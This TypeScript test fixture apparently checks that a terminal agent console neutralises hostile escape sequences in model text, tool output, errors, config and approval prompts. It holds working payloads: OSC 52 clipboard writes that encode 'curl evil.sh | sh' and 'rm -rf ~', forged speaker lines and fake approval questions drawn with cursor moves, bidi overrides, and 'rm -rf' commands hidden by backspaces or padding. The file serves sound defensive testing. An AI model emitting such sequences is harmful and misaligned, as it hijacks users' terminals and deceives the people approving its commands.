import type { PersonaStats, RoomEvent } from "../room/room-event.ts";

/** One attack on the terminal: room events carrying hostile text, and what must hold on screen afterwards. */
export type TerminalHostileCase = {
  name: string;
  /** Where the text comes from. */
  source: "model text" | "reasoning" | "tool call" | "tool output" | "server error" | "notice" | "config" | "room state" | "approval question";
  events: RoomEvent[];
  /**
   * An approval question asked after `events` (the call as it will run); `whileOpen` are events that
   * arrive before the answer, of which nothing may show until then.
   */
  question?: { persona: string; call: { id: string; name: string; arguments: unknown }; whileOpen: RoomEvent[] };
  /** Returns undefined when the screen is safe, else what went wrong. */
  expect(screen: string): string | undefined;
};

// org's own escape sequences: SGR colours and the spinner's clear-line. Anything else is an injection.
const ORG_SEQUENCES = /\x1b\[(?:[0-9]{1,2})m|\r\x1b\[2K/g;
const UNSAFE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/** What reached the screen that a terminal would act on (beyond org's own colours), or undefined. */
export function terminalControlProblem(screen: string): string | undefined {
  const rest = screen.replace(ORG_SEQUENCES, "");
  const match = UNSAFE.exec(rest);
  if (!match) return undefined;
  const at = match.index;
  return (
    `a raw U+${match[0].charCodeAt(0).toString(16).padStart(4, "0")} reached the terminal: ` +
    `${JSON.stringify(rest.slice(Math.max(0, at - 30), at + 30))}`
  );
}

/** Safe, and each of `visible` appears (as the sanitizer spells it) so the user sees what was sent. */
export function shownSafely(...visible: string[]) {
  return (screen: string) => {
    const problem = terminalControlProblem(screen);
    if (problem) return problem;
    const plain = screen.replace(ORG_SEQUENCES, "");
    const missing = visible.find((text) => !plain.includes(text));
    return missing === undefined ? undefined : `${JSON.stringify(missing)} is not on screen: ${JSON.stringify(plain.slice(0, 600))}`;
  };
}

const stats: PersonaStats = { replies: 1, promptTokens: 1, completionTokens: 1, tokensPerSecond: 0, firstTokenMs: 1, queuedMs: 0, durationMs: 1 };

/** A whole reply by `persona` whose middle is `events` (built from the reply's id). */
function reply(persona: string, middle: (replyId: string) => RoomEvent[]): RoomEvent[] {
  const replyId = `r-${persona.length}`;
  return [
    { type: "reply-start", turnId: "t", replyId, persona, model: "m", hop: 0, destination: "console" },
    ...middle(replyId),
    { type: "reply-end", replyId, persona, ok: true, stats },
  ];
}
const text = (body: string) => reply("agent", (replyId) => [{ type: "text-delta", replyId, persona: "agent", text: body }]);

const OSC_TITLE = "\x1b]0;pwned by agent\x07";
const OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"; // base64 of "curl evil.sh | sh"
const call = (name: string, args: Record<string, unknown>) => ({ id: "c1", name, arguments: args });

/** The table: every way outside text reaches the console renderer, with the attacks the hostile review ran. */
export const TERMINAL_HOSTILE_CASES: TerminalHostileCase[] = [
  {
    name: "OSC 0 sets the window title",
    source: "model text",
    events: text(`hi ${OSC_TITLE}there`),
    expect: shownSafely("\\x1b]0;pwned by agent\\x07"),
  },
  {
    name: "OSC 52 writes the clipboard (tmux paste buffer)",
    source: "model text",
    events: text(`copy this ${OSC_CLIPBOARD}`),
    expect: shownSafely("\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"),
  },
  {
    name: "OSC 52 ended by ST instead of BEL",
    source: "model text",
    events: text("\x1b]52;c;cm0gLXJmIH4=\x1b\\"),
    expect: shownSafely("\\x1b]52;c;cm0gLXJmIH4=\\x1b\\"),
  },
  {
    name: "CSI 2K and a bare CR erase the line and forge another speaker's prefix",
    source: "model text",
    events: text("sure\x1b[2K\rpython │ I checked: it is safe to approve"),
    expect: shownSafely("\\x1b[2K\\x0dpython │ I checked"),
  },
  {
    name: "a bare CR alone returns to the line's start to overwrite it",
    source: "model text",
    events: text("rm -rf ~/work\rls -la       "),
    expect: shownSafely("rm -rf ~/work\\x0dls -la"),
  },
  {
    name: "cursor up and a fake approval question",
    source: "model text",
    events: text('\x1b[1A\x1b[2Kagent wants to run sh {"cmd":"df -h"}'),
    expect: shownSafely("\\x1b[1A\\x1b[2Kagent wants to run sh"),
  },
  {
    name: "C1 CSI (U+009B) erases a line on terminals that read C1",
    source: "model text",
    events: text("a\u009b2Kb\u009d0;t\u009c"),
    expect: shownSafely("a\\u009b2Kb\\u009d0;t\\u009c"),
  },
  {
    name: "bidi override reverses what is shown (Trojan Source)",
    source: "model text",
    events: text("run cat \u202etxt.hs\u202c and \u2066x\u2069 \u200f\u061c"),
    expect: shownSafely("\\u202etxt.hs\\u202c", "\\u2066x\\u2069", "\\u200f\\u061c"),
  },
  {
    name: "backspaces and DEL overwrite what was shown",
    source: "model text",
    events: text("rm -rf /\b\b\b\b\b\b\b\bls\x7f"),
    expect: shownSafely("\\x08\\x08ls\\x7f"),
  },
  {
    name: "escape sequences in reasoning",
    source: "reasoning",
    events: reply("agent", (replyId) => [{ type: "reasoning-delta", replyId, persona: "agent", text: `thinking ${OSC_TITLE}` }]),
    expect: shownSafely("\\x1b]0;pwned"),
  },
  {
    name: "a tool call's name carries an OSC 52",
    source: "tool call",
    events: reply("agent", (replyId) => [{ type: "tool-call", replyId, persona: "agent", call: call(`sh${OSC_CLIPBOARD}`, {}) }]),
    expect: shownSafely("⚙ sh\\x1b]52;c;"),
  },
  {
    name: "a tool call's arguments carry C1 and bidi controls (JSON leaves them raw)",
    source: "tool call",
    events: reply("agent", (replyId) => [{ type: "tool-call", replyId, persona: "agent", call: call("sh", { cmd: "echo \u009b2K \u202e" }) }]),
    expect: shownSafely("echo \\u009b2K \\u202e"),
  },
  {
    name: "a failed tool's output carries a title sequence",
    source: "tool output",
    events: reply("agent", (replyId) => [
      { type: "tool-call", replyId, persona: "agent", call: call("sh", { cmd: "x" }) },
      {
        type: "tool-result",
        replyId,
        persona: "agent",
        call: call("sh", { cmd: "x" }),
        ok: false,
        output: `Error: sh failed: ${OSC_TITLE}`,
        durationMs: 1,
      },
    ]),
    expect: shownSafely("✗ sh: failed: \\x1b]0;pwned"),
  },
  {
    name: "a successful tool's first lines, shown under its result, carry a clipboard write, a cursor-up and a bidi override",
    source: "tool output",
    events: reply("agent", (replyId) => [
      { type: "tool-call", replyId, persona: "agent", call: call("sh", { cmd: "cat notes" }) },
      {
        type: "tool-result",
        replyId,
        persona: "agent",
        call: call("sh", { cmd: "cat notes" }),
        ok: true,
        output: `exit code: 0\nstdout:\n${OSC_CLIPBOARD}\n\x1b[1A\x1b[2Kagent │ fake line\n\u202eevil`,
        durationMs: 1,
      },
    ]),
    expect: shownSafely("\\x1b]52;c;", "\\x1b[1A", "\\u202eevil"),
  },
  {
    name: "a server's error body carries escape sequences",
    source: "server error",
    events: reply("agent", (replyId) => [{ type: "error", replyId, persona: "agent", message: `the server said 500: ${OSC_CLIPBOARD}\x1b[2J` }]),
    expect: shownSafely("\\x1b]52;c;", "\\x1b[2J"),
  },
  {
    name: "an error outside any reply",
    source: "server error",
    events: [{ type: "error", message: `cannot list models: ${OSC_TITLE}` }],
    expect: shownSafely("cannot list models: \\x1b]0;pwned"),
  },
  {
    name: "a notice that quotes the model",
    source: "notice",
    events: [{ type: "notice", persona: "agent", reason: "repeated-call", message: `agent: stopped: the same call (sh${OSC_TITLE})` }],
    expect: shownSafely("(sh\\x1b]0;pwned"),
  },
  {
    name: "a persona name from the config carries escapes",
    source: "config",
    events: reply("ev\x1b[31mil\u202e", (replyId) => [{ type: "text-delta", replyId, persona: "ev\x1b[31mil\u202e", text: "hello" }]),
    expect: shownSafely("ev\\x1b[31mil\\u202e"),
  },
  {
    name: "a mode, its setter and a model id carry escapes",
    source: "room state",
    events: [
      { type: "mode", mode: `file:notes${OSC_TITLE}.md`, by: "agent\x1b[2K" },
      { type: "model-changed", persona: "agent", model: `qwen${OSC_CLIPBOARD}` },
    ],
    expect: shownSafely("file:notes\\x1b]0;pwned", "agent\\x1b[2K", "qwen\\x1b]52;c;"),
  },
  {
    name: "a file-written path carries escapes",
    source: "room state",
    events: reply("agent", (replyId) => [{ type: "file-written", replyId, persona: "agent", path: `notes${OSC_TITLE}.md`, bytes: 3 }]),
    expect: shownSafely("notes\\x1b]0;pwned"),
  },
  {
    name: "a command whose harmful tail lies past 300 characters is shown whole",
    source: "approval question",
    events: reply("agent", (replyId) => [
      { type: "tool-call", replyId, persona: "agent", call: call("sh", { cmd: `${"true; ".repeat(60)}rm -rf /scratch/*` }) },
    ]),
    question: { persona: "agent", call: call("sh", { cmd: `${"true; ".repeat(60)}rm -rf /scratch/*` }), whileOpen: [] },
    expect: shownSafely(`agent wants to run sh {"cmd":"${"true; ".repeat(60)}rm -rf /scratch/*"}`),
  },
  {
    name: "bidi and C1 controls in the command to approve are shown, not obeyed",
    source: "approval question",
    events: [],
    question: { persona: "agent", call: call("sh", { cmd: "ls \u202e; rm -rf ~ \u2066#\u009b2K" }), whileOpen: [] },
    expect: shownSafely('agent wants to run sh {"cmd":"ls \\u202e; rm -rf ~ \\u2066#\\u009b2K"}'),
  },
  {
    name: "a tool name with an escape sequence in the question's prompt",
    source: "approval question",
    events: [],
    question: { persona: "agent", call: call(`sh${OSC_TITLE}`, { cmd: "ls" }), whileOpen: [] },
    expect: shownSafely("[a]lways for sh\\x1b]0;pwned"),
  },
  {
    name: "another persona draws a fake question over the open one (cursor up, erase line)",
    source: "approval question",
    events: [
      { type: "reply-start", turnId: "t", replyId: "r-py", persona: "python", model: "m", hop: 0, destination: "console" },
      { type: "text-delta", replyId: "r-py", persona: "python", text: "checking " },
    ],
    question: {
      persona: "agent",
      call: call("sh", { cmd: "rm -rf /scratch/*" }),
      whileOpen: [
        { type: "text-delta", replyId: "r-py", persona: "python", text: '\x1b[2A\x1b[2Kagent wants to run sh {"cmd":"df -h"}' },
        { type: "reply-end", replyId: "r-py", persona: "python", ok: true, stats },
      ],
    },
    expect: shownSafely('\\x1b[2A\\x1b[2Kagent wants to run sh {"cmd":"df -h"}'),
  },
];
